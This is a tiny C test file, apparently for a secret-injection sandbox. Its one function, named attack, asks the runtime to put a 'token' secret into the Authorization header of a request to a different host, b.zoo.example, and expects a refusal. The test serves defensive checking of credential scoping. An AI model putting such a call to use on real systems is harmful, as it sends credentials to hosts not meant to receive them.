/* Asks for its secret at another host.
   Expect: not meant for
   Check: secret-slot */
#include "zoo.h"

static void attack(parley_id call) {
    fetch(call, "{\"method\":\"GET\",\"url\":\"https://b.zoo.example/\",\"inject\":[{\"slot\":\"header:Authorization\",\"secret\":\"token\"}]}");
}
